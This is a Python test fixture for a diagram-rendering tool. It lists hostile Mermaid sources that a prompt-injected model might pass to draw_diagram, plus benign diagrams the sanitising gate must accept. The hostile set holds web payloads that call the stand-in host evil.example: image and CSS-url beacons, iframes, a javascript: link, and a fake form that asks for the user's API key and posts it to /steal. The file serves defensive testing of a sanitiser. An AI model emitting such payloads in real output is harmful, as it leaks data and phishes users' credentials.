"""Mermaid sources a prompt-injected model might send to draw_diagram (finding 2).

EVIL is another origin; in the browser tests it does not resolve, so a request to it shows up
in Playwright's request log without reaching anything.
"""

from __future__ import annotations

EVIL = "http://evil.example"

HOSTILE: dict[str, str] = {
    "img_label": f'graph TD\n  A["<img src={EVIL}/img.png>"] --> B',
    "details": 'graph TD\n  A["<details open><summary>More</summary>hidden text</details>"] --> B',
    "fake_key_form": (
        f"graph TD\n  A[\"<form action={EVIL}/steal><input name=key placeholder='Re-enter your API key'>"
        '<button>Continue</button></form>"] --> B'
    ),
    "front_matter_after_blank": (
        f' \n---\nconfig:\n  themeCSS: "svg {{ background: url({EVIL}/fm.png) }}"\n---\ngraph TD\n  A-->B'
    ),
    "front_matter_config": (
        f'---\nconfig:\n  themeCSS: ".node {{ background-image: url({EVIL}/fm2.png) }}"\n---\ngraph TD\n  A-->B'
    ),
    "init_directive": f'%%{{init: {{"themeCSS": "svg{{background:url({EVIL}/init.png)}}"}}}}%%\ngraph TD\n  A-->B',
    "entity_img": f'graph TD\n  A["&lt;img src={EVIL}/entity.png&gt;"] --> B',
    "mermaid_entity_img": f'graph TD\n  A["#lt;img src={EVIL}/hash.png#gt;"] --> B',
    "style_url": f"graph TD\n  A-->B\n  style A fill:url({EVIL}/style.png)",
    "classdef_url": f"graph TD\n  A:::x-->B\n  classDef x fill:url({EVIL}/cls.png)",
    "image_shape": f'flowchart TD\n  A@{{ img: "{EVIL}/shape.png", label: "pic", pos: "t", h: 60 }}\n  A-->B',
    "click_after_semicolon": f'graph TD\n  A-->B; click A href "{EVIL}/click"',
    "javascript_link": 'graph TD\n  A-->B\n  click A "javascript:alert(1)"',
    "iframe": f'graph TD\n  A["<iframe src={EVIL}/frame></iframe>"] --> B',
    "anchor": f'graph TD\n  A["<a href={EVIL}/a>Open the docs</a>"] --> B',
    "markdown_label_img": f'graph TD\n  A["`<img src={EVIL}/md.png>`"] --> B',
    "svg_foreign_object": f'graph TD\n  A["<svg><foreignObject><img src={EVIL}/svg.png></foreignObject></svg>"] --> B',
    "sequence_img": f"sequenceDiagram\n  Alice->>Bob: <img src={EVIL}/seq.png>",
    "class_member_anchor": f"classDiagram\n  class A {{\n    +<a href={EVIL}/m>x</a>\n  }}",
    "mindmap_img": f"mindmap\n  root((<img src={EVIL}/mm.png>))",
    "state_note_img": f"stateDiagram-v2\n  [*] --> S\n  note right of S : <img src={EVIL}/note.png>",
    "edge_label_input": 'graph TD\n  A -->|"<input value=secret>"| B',
    "c4_sprite": f'C4Context\n  Person(p, "Pat", "", $sprite="img:{EVIL}/sprite.png")',
}

# Ordinary diagrams with the characters the gate must not refuse: arrows, annotations, a < b,
# <br> line breaks, a URL written as text.
BENIGN: dict[str, str] = {
    "arrows": "graph LR\n  A<-->B\n  B-.->C\n  C==>D\n  D--oE",
    "less_than": 'graph TD\n  A["a < b and b > c"] --> B["x &lt; y"]',
    "line_break": 'graph TD\n  A["first line<br>second line"] --> B["x<br/>y"]',
    "annotation": "classDiagram\n  class Shape\n  <<interface>> Shape\n  Shape <|-- Square",
    "state_fork": "stateDiagram-v2\n  state f <<fork>>\n  [*] --> f\n  f --> A",
    "url_as_text": 'graph TD\n  A["Docs at https://example.com/docs"] --> B',
    "title_front_matter": "---\ntitle: Login flow\n---\ngraph TD\n  A-->B",
    "sequence": "sequenceDiagram\n  Alice->>Bob: hi\n  Bob-->>Alice: hello",
    "offline_demo": (  # what the offline server draws (googlive/fakelive/script.py diagram_args)
        'flowchart TD\n    A["You asked: please draw a diagram"] --> B["Offline demo backend"]\n'
        '    B --> C{"Gemini available?"}\n    C -- "no" --> D["This placeholder diagram"]\n'
        '    C -- "yes" --> E["A real diagram of your topic"]'
    ),
}
